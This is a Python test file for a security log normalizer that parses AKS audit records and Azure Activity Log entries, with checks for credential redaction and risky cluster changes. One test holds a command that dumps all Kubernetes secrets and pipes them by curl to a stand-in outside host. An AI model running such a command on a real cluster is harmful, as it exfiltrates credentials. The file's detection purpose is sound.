"""AKS records and the Activity Log: identities, addresses, cuts, and the calls that matter to a cluster."""

import json

import pytest

from leadsman_common.errors import InvalidEvent
from leadsman_common.events import Flag
from leadsman_common.raw import RawEvent
from leadsman_normalizer.detect import detect
from leadsman_normalizer.normalize import normalize
from leadsman_normalizer.result import Dropped
from leadsman_normalizer.sources.aks_audit import cluster_of_id, source_of

SUBSCRIPTION = "12345678-1234-1234-1234-123456789ABC"
RESOURCE_ID = (
    f"/SUBSCRIPTIONS/{SUBSCRIPTION}/RESOURCEGROUPS/DOCK/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/HARBOUR"
)
CLUSTER_ID = f"azure/{SUBSCRIPTION.lower()}//harbour"


def native(user="masterclient", ips=("20.43.245.209", "172.31.52.37"), **more):
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Request",
        "auditID": "a-1",
        "stage": "ResponseStarted",
        "requestURI": "/api/v1/namespaces/web/pods/shop/exec?command=sh&command=%C3%A9&stdin=true&tty=true",
        "verb": "get",
        "user": {"username": user, "groups": ["system:masters", "system:authenticated"]},
        "sourceIPs": list(ips),
        "objectRef": {
            "resource": "pods",
            "namespace": "web",
            "name": "shop",
            "apiVersion": "v1",
            "subresource": "exec",
        },
        "responseStatus": {"code": 101},
        "requestReceivedTimestamp": "2026-11-23T10:00:00.000000Z",
        "stageTimestamp": "2026-11-23T10:00:01.000000Z",
        **more,
    }


def record(log=None, category="kube-audit", **more):
    text = log if isinstance(log, str) else json.dumps(log or native(), ensure_ascii=False) + "\n"
    return {
        "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
        "category": category,
        "resourceId": RESOURCE_ID,
        "properties": {"log": text, "stream": "stdout", "pod": "kube-apiserver-1"},
        "time": "2026-11-23T10:00:02.0000000Z",
        **more,
    }


def read(found, **more):
    value = found if isinstance(found, bytes) else json.dumps(found).encode()
    return normalize(RawEvent(value=value, **more))


# --- kube-audit -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("category", ["kube-audit", "kube-audit-admin"])
def test_a_record_is_the_native_event_in_it(category):
    found = read(record(category=category))
    assert found["action"] == "get pods/exec"
    assert found["source"]["format"] == "aks-audit"
    assert found["cluster"]["id"] == CLUSTER_ID
    assert found["facts"]["exec"]["argv"] == ["sh", "é"]
    assert found["outcome"]["effective"] is True
    assert found["sourceIPs"] == ["20.43.245.209", "172.31.52.37"]
    assert found["src_endpoint"] == {"ip": "20.43.245.209", "public": True}


def test_what_the_transport_knew_goes_first():
    found = read(record(), account="sub", cluster="mine", region="westeurope", provider="azure")
    assert found["cluster"]["id"] == "azure/sub/westeurope/mine"


def test_log_analytics_gives_the_same_event():
    row = {"Category": "kube-audit", "_ResourceId": RESOURCE_ID.lower(), "log_s": json.dumps(native())}
    assert read(row)["id"] == read(record())["id"]
    assert read({**row, "ResourceId": RESOURCE_ID})["cluster"]["id"] == CLUSTER_ID


@pytest.mark.parametrize(
    ("user", "kind"),
    [
        ("masterclient", "human"),  # the local admin's kubeconfig: people use it
        ("aksService", "managed_cloud"),
        ("hcpService", "managed_cloud"),
        ("nodeclient", "managed_cloud"),
        ("readinessChecker", "managed_cloud"),
        ("alice@example.com", "human"),
        ("0a1b2c3d-0000-0000-0000-000000000000", "human"),
        ("system:node:aks-pool-1", "node"),
        ("system:serviceaccount:web:cart", "service_account"),
    ],
)
def test_identities_of_aks(user, kind):
    assert read(record(native(user)))["actor"]["class"] == kind


@pytest.mark.parametrize(
    ("ips", "trusted"),
    [
        ([], ""),
        (["10.0.0.1"], "10.0.0.1"),
        (["203.0.113.1"], "203.0.113.1"),
        (["20.43.245.209", "172.31.52.37"], "20.43.245.209"),
        (["1.1.1.1", "20.43.245.209", "172.31.52.37"], "20.43.245.209"),  # the first one is the client's invention
        (["1.1.1.1", "20.43.245.209"], "20.43.245.209"),
    ],
)
def test_the_address_to_trust(ips, trusted):
    assert source_of(ips) == trusted
    assert read(record(native(ips=ips)))["src_endpoint"]["ip"] == trusted


@pytest.mark.parametrize(
    ("resource_id", "found"),
    [
        (RESOURCE_ID, (SUBSCRIPTION.lower(), "harbour")),
        (RESOURCE_ID + "/providers/microsoft.insights/diagnosticSettings/x", (SUBSCRIPTION.lower(), "harbour")),
        ("/subscriptions/s/resourceGroups/g/providers/Microsoft.Kubernetes/connectedClusters/Arc", ("s", "arc")),
        ("/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/vm", ("", "")),
        ("", ("", "")),
        ("/subscriptions/" * 10_000, ("", "")),
    ],
)
def test_the_cluster_in_a_resource_id(resource_id, found):
    assert cluster_of_id(resource_id) == found


@pytest.mark.parametrize("category", ["kube-apiserver", "kube-controller-manager", "cluster-autoscaler", ""])
def test_another_category_is_not_ours(category):
    line = "I0624 20:14:59.855669       1 wrap.go:47] PUT /api/v1/namespaces"
    assert read(record(line, category)) == Dropped(f"not ours: AKS category {category}")


def test_the_first_stage_is_dropped():
    assert read(record(native(stage="RequestReceived"))) == Dropped("stage RequestReceived")


def test_a_line_of_the_guard_is_an_event_of_the_control_plane():
    line = "W1123 10:00:02.000001       1 rbac.go:99] checkaccess denied for alice@example.com\n"
    found = read(record(line, "guard"))
    assert found["action"] == "control-plane/guard"
    assert found["cluster"]["id"] == CLUSTER_ID
    assert found["time"] == 1795428002_000001
    facts = found["facts"]["control_plane"]
    assert (facts["component"], facts["severity"]) == ("guard", "warning")


TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJl"
ASKED = {"kind": "SubjectAccessReview", "spec": {"user": "alice@example.com", "resourceAttributes": {"verb": "get"}}}
TOKEN_REVIEW = {"kind": "TokenReview", "spec": {"token": TOKEN}}


@pytest.mark.parametrize(
    ("text", "severity", "message"),
    [
        ('time="2026-11-23T10:00:02Z" level=warning msg="denied"', "warning", 'level=warning msg="denied"'),
        ('{"level":"error","msg":"denied"}', "error", "denied"),
        (json.dumps(ASKED), "", "alice@example.com"),
        (json.dumps(TOKEN_REVIEW), "", "TokenReview"),
        ("no line", "", "no line"),
    ],
)
def test_another_line_of_the_guard_is_one_too(text, severity, message):
    found = read(record(text, "guard"))
    facts = found["facts"]["control_plane"]
    assert (facts["component"], facts["severity"]) == ("guard", severity)
    assert message in facts["message"]
    assert found["time"] == 1795428002_000000
    assert TOKEN not in json.dumps(found)


def test_an_audit_event_in_the_category_of_the_guard_is_one():
    assert read(record(category="guard"))["action"] == "get pods/exec"


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (record(""), "without properties.log"),
        ({**record(), "properties": "x"}, "without properties.log"),
        (record("I0624 klog in the audit category"), "malformed JSON"),
        (record("{}"), "without"),
        (b'{"category":"kube-audit","properties":{"log":', "without properties.log"),
    ],
)
def test_what_is_no_audit_record_is_invalid(value, reason):
    with pytest.raises(InvalidEvent, match=reason):
        read(value, format="aks-audit")


@pytest.mark.parametrize("order", ["category first", "log first"])
def test_every_cut_behind_the_head_is_salvaged(order):
    whole = record(native(responseObject={"message": 'quoted "text" \\ é \U0001f600'}))
    if order == "log first":
        whole = {"properties": whole.pop("properties"), **whole}
    value = json.dumps(whole, ensure_ascii=False).encode()
    behind = value.index(b"responseStatus")
    end = value.index(b'}\\n"') + 1
    for size in range(len(value)):
        try:
            found = read(value[:size], format="aks-audit")
        except InvalidEvent:
            assert size <= behind, value[:size]
            continue
        assert found["action"] == "get pods/exec"
        assert found["user"]["username"] == "masterclient"
        assert found["coverage"]["truncated"] is (size < end)


@pytest.mark.timeout(5)
def test_a_cut_record_full_of_quotes_takes_no_time():
    with pytest.raises(InvalidEvent):
        read(b'{"category":"kube-audit","properties":{"log":"' + b'\\"' * 500_000, format="aks-audit")


# --- Activity Log -----------------------------------------------------------------------------------------------

CLUSTER = "/subscriptions/s/resourceGroups/dock/providers/Microsoft.ContainerService/managedClusters/Harbour"
ADMIN = "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/LISTCLUSTERADMINCREDENTIAL/ACTION"


def activity(operation=ADMIN, resource_id=CLUSTER, result="Success", **more):
    return read(
        {
            "time": "2026-11-23T10:00:00.0000000Z",
            "resourceId": resource_id,
            "operationName": operation,
            "category": "Administrative",
            "resultType": result,
            "resultSignature": "Succeeded.OK",
            "callerIpAddress": "8.8.8.8",
            "correlationId": "c-1",
            "identity": {
                "claims": {
                    "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "mallory@example.com",
                    "http://schemas.microsoft.com/identity/claims/objectidentifier": "oid-1",
                }
            },
            "location": "westeurope",
            **more,
        }
    )


def test_an_admin_credential_listed():
    found = activity()
    assert found["action"] == "microsoft.containerservice:managedClusters/listClusterAdminCredential/action"
    assert found["cloud"]["operation"] == "managedClusters/listClusterAdminCredential/action"
    assert found["cluster"]["id"] == "azure/s//harbour", "as the cluster's own records have it: without a region"
    assert (found["actor"]["name"], found["actor"]["class"]) == ("mallory@example.com", "human")
    assert found["user"]["uid"] == "oid-1"
    assert found["src_endpoint"] == {"ip": "8.8.8.8", "public": True}
    assert found["flags"] == int(Flag.CLOUD_CALL | Flag.EFFECTIVE)
    assert found["time"] == 1795428000_000000
    assert found["facts"] is None


def test_the_rest_apis_form_gives_the_same():
    found = read(
        {
            "eventTimestamp": "2026-11-23T10:00:00Z",
            "resourceId": CLUSTER,
            "operationName": {"value": "Microsoft.ContainerService/managedClusters/runCommand/action"},
            "status": {"value": "Failed"},
            "subStatus": {"value": "Forbidden"},
            "caller": "mallory@example.com",
            "claims": {"ipaddr": "8.8.8.8"},
            "correlationId": "c-1",
        }
    )
    assert found["action"] == "microsoft.containerservice:managedClusters/runCommand/action"
    assert (found["outcome"]["authz"], found["outcome"]["effective"]) == ("forbid", False)
    assert found["src_endpoint"]["ip"] == "8.8.8.8"


def test_a_call_is_one_event_whatever_is_logged_of_it():
    assert activity(result="Start") == Dropped("the start of an Azure operation, whose end is an event")
    later = activity(result="Succeeded", time="2026-11-23T10:05:00Z")
    assert activity(result="Accept")["id"] == later["id"]
    assert activity(correlationId="c-2")["id"] != later["id"]


@pytest.mark.parametrize(
    ("signature", "authz", "http"),
    [
        ("Failed.Forbidden", "forbid", 0),
        ("403", "forbid", 403),
        ("AuthorizationFailed", "forbid", 0),
        ("409", "none", 409),
    ],
)
def test_a_failure(signature, authz, http):
    found = activity(result="Failure", resultSignature=signature)
    assert (found["outcome"]["authz"], found["outcome"]["http"]) == (authz, http)
    assert found["outcome"]["effective"] is False
    assert found["flags"] & Flag.FAILED
    assert found["cloud"]["error"]


SETTING = f"{CLUSTER}/providers/microsoft.insights/diagnosticSettings/audit"


def test_a_diagnostic_setting_deleted():
    found = activity("MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE", SETTING)
    facts = found["facts"]["control_plane"]
    assert found["action"] == "microsoft.insights:diagnosticSettings/delete"
    assert (facts["target"], facts["logging_off"]) == ("audit", True)


@pytest.mark.parametrize("as_text", [True, False])
def test_a_diagnostic_setting_written(as_text):
    body = {
        "properties": {"logs": [{"category": "kube-audit", "enabled": False}, {"category": "guard", "enabled": True}]}
    }
    properties = {"requestbody": json.dumps(body)}
    found = activity(
        "Microsoft.Insights/diagnosticSettings/write",
        SETTING,
        properties=json.dumps(properties) if as_text else properties,
    )
    facts = found["facts"]["control_plane"]
    assert (facts["logging_types_off"], facts["logging_types_on"]) == (["kube-audit"], ["guard"])
    assert facts["logging_off"] is True


def test_an_api_server_opened():
    access = {"enablePrivateCluster": False, "authorizedIPRanges": ["0.0.0.0/0"]}
    body = {"properties": {"apiServerAccessProfile": access, "kubernetesVersion": "1.33.1", "password": "hunter2"}}
    found = activity("Microsoft.ContainerService/managedClusters/write", properties={"requestbody": json.dumps(body)})
    facts = found["facts"]["control_plane"]
    assert (facts["endpoint_public"], facts["cidrs"], facts["version"]) == (True, ["0.0.0.0/0"], "1.33.1")
    assert "hunter2" not in json.dumps(found)


@pytest.mark.parametrize(
    ("properties", "facts"),
    [
        ({"disableLocalAccounts": False}, {"local_accounts": True, "rbac": None}),
        ({"disableLocalAccounts": True, "enableRBAC": False}, {"local_accounts": False, "rbac": False}),
        ({"publicNetworkAccess": "Disabled"}, {"endpoint_public": False, "local_accounts": None}),
        ({"apiServerAccessProfile": {"enablePrivateCluster": True}}, {"endpoint_public": False}),
        ({"disableLocalAccounts": "no", "publicNetworkAccess": 5}, {"local_accounts": None, "endpoint_public": None}),
    ],
)
def test_what_a_cluster_written_sets(properties, facts):
    body = {"requestbody": json.dumps({"properties": properties})}
    told = activity("Microsoft.ContainerService/managedClusters/write", properties=body)["facts"]["control_plane"]
    assert {key: told[key] for key in facts} == facts


def test_a_command_run_by_azure_is_an_exec():
    command = "kubectl get secrets -A -o yaml | curl --data-binary @- https://u:hunter2@example.com"
    body = {"requestbody": json.dumps({"command": command, "clusterToken": "hunter2"})}
    found = activity("MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/RUNCOMMAND/ACTION", properties=body)
    told = found["facts"]["exec"]
    assert told["kind"] == "aks_run_command"
    assert told["argv"] == [command.replace("hunter2", "***")]
    assert "kubectl get secrets -A -o yaml | curl" in told["command_text"]
    assert found["flags"] & Flag.HAS_EXEC
    assert "hunter2" not in json.dumps(found)
    assert activity("Microsoft.ContainerService/managedClusters/runCommand/action")["facts"] is None


@pytest.mark.parametrize(
    ("scope", "where"),
    [(CLUSTER, ("cluster", [])), (f"{CLUSTER}/namespaces/Shop", ("namespace", ["shop"]))],
)
@pytest.mark.parametrize("key", ["requestbody", "responseBody"])
@pytest.mark.parametrize("verb", ["write", "delete"])
def test_a_role_assigned_on_a_cluster(verb, key, scope, where):
    definition = "/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/"
    assigned = {"principalId": "oid-2", "principalType": "User", "scope": scope}
    for role, name in (
        ("B1FF04BB-8a4e-4dc4-8eb5-8693973ce19b", "Azure Kubernetes Service RBAC Cluster Admin"),
        ("11111111-0000-0000-0000-000000000000", "11111111-0000-0000-0000-000000000000"),
    ):
        body = {key: json.dumps({"properties": {**assigned, "roleDefinitionId": definition + role}})}
        resource_id = f"{CLUSTER}/providers/Microsoft.Authorization/roleAssignments/r"
        found = activity(f"Microsoft.Authorization/roleAssignments/{verb}", resource_id, properties=body)
        told = found["facts"]["cloud_access"]
        assert (told["principal_arn"], told["type"], told["policy"]) == ("oid-2", "User", name)
        assert told["policy_arn"] == definition + role
        assert (told["scope"], told["namespaces"]) == where
        assert found["flags"] & Flag.HAS_CLOUD_ACCESS


def test_secrets_of_a_cluster_do_not_travel():
    body = {
        "properties": {
            "servicePrincipalProfile": {"clientId": "c", "secret": "hunter2"},
            "windowsProfile": {"adminUsername": "a", "adminPassword": "hunter2"},
            "linuxProfile": {"ssh": {"publicKeys": [{"keyData": "hunter2"}]}},
            "tags": [{"key": "db-password", "value": "hunter2"}, {"key": "team", "value": "shop"}],
            "userData": "hunter2",
            "url": "https://user:hunter2@example.com/?token=hunter2hunter2",
        }
    }
    found = activity("Microsoft.ContainerService/managedClusters/write", properties={"requestbody": json.dumps(body)})
    assert "hunter2" not in json.dumps(found)
    assert '"clientId":"c"' in found["cloud"]["parameters"]
    assert '"value":"shop"' in found["cloud"]["parameters"]


def test_an_unknown_operation_is_spelled_in_lower_case():
    found = activity("MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/RBAC.AUTHORIZATION.K8S.IO/ROLES/WRITE")
    assert found["action"] == "microsoft.containerservice:managedclusters/rbac.authorization.k8s.io/roles/write"


def test_another_resource_is_not_ours():
    found = activity("Microsoft.Compute/virtualMachines/delete", "/subscriptions/s/resourceGroups/g/providers/x/y/z")
    assert found == Dropped("not ours: an Azure operation on no cluster")


@pytest.mark.parametrize(
    ("value", "reason"),
    [(b'{"operationName":""}', "without operationName"), (b'{"operationName":"x"', "truncated"), (b"[]", "not a JSON")],
)
def test_what_is_no_activity_is_invalid(value, reason):
    with pytest.raises(InvalidEvent, match=reason):
        read(value, format="azure-activity")


@pytest.mark.parametrize("wrong", [5, "x", [], [1], {"a": "x"}, True])
@pytest.mark.parametrize("key", ["identity", "properties", "resultSignature", "correlationId", "time", "location"])
def test_wrong_types_are_no_exception(key, wrong):
    assert activity(**{key: wrong})["cloud"]["service"] == "microsoft.containerservice"


# --- known by their looks ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "found"),
    [
        (record(), "aks-audit"),
        ({"Category": "kube-audit", "log_s": "{}"}, "aks-audit"),
        ({"category": "kube-audit", "properties": {"log": json.dumps(native())}}, "aks-audit"),
        ({"operationName": ADMIN, "resourceId": CLUSTER}, "azure-activity"),
    ],
)
def test_the_format_of_a_record_in_a_file(value, found):
    assert detect(json.dumps(value).encode()) == found


# --- the tables AKSAudit and AKSAuditAdmin ----------------------------------------------------------------------------


def row(as_text=False, **more):
    event = native()
    dynamic = {
        "User": event["user"],
        "ObjectRef": event["objectRef"],
        "ResponseStatus": event["responseStatus"],
        "SourceIps": event["sourceIPs"],
        "Annotations": {"authorization.k8s.io/decision": "allow"},
    }
    return {
        "TimeGenerated": "2026-11-23T10:00:02Z",
        "AuditId": event["auditID"],
        "Level": event["level"],
        "Stage": event["stage"],
        "Verb": event["verb"],
        "RequestUri": event["requestURI"],
        "RequestReceivedTime": event["requestReceivedTimestamp"],
        "StageReceivedTime": event["stageTimestamp"],
        "UserAgent": '{"not": "an object"}',
        **({key: json.dumps(value) for key, value in dynamic.items()} if as_text else dynamic),
        "RequestObject": None,
        "PodName": "kube-apiserver-1",
        "Type": "AKSAudit",
        "_ResourceId": RESOURCE_ID.lower(),
        **more,
    }


@pytest.mark.parametrize("as_text", [True, False])
def test_a_row_is_the_event_that_it_was(as_text):
    told = read(row(as_text))
    whole = read(record(native(annotations={"authorization.k8s.io/decision": "allow"})))
    assert told.pop("userAgent") == '{"not": "an object"}'
    whole.pop("userAgent")
    assert told == whole
    assert detect(json.dumps(row()).encode()) == "aks-audit"


def test_a_body_that_aks_left_out_is_a_reason():
    ref = {"resource": "pods", "namespace": "web", "apiVersion": "v1"}
    told = read(row(Verb="create", RequestUri="/x", ObjectRef=ref, RequestObject="skipped-too-big-size-object"))
    assert told["facts"] is None
    assert "requestObject: left out, too large for AKS" in told["coverage"]["reasons"]


@pytest.mark.parametrize(
    "value",
    [
        json.dumps(row()).encode()[:-20],
        json.dumps(row(Verb=None, RequestUri="")).encode(),
        json.dumps([row()]).encode(),
    ],
)
def test_what_is_no_row_is_invalid(value):
    with pytest.raises(InvalidEvent):
        read(value, format="aks-audit")


@pytest.mark.parametrize("wrong", [5, "x", "{", "[]", [], {"a": 1}, None, True, "{" * 5000, '"[1]"'])
def test_wrong_types_in_a_row_are_no_exception(wrong):
    for column in row():
        if column not in ("AuditId", "RequestUri", "Verb"):
            assert read(row(**{column: wrong}), format="aks-audit")["action"]
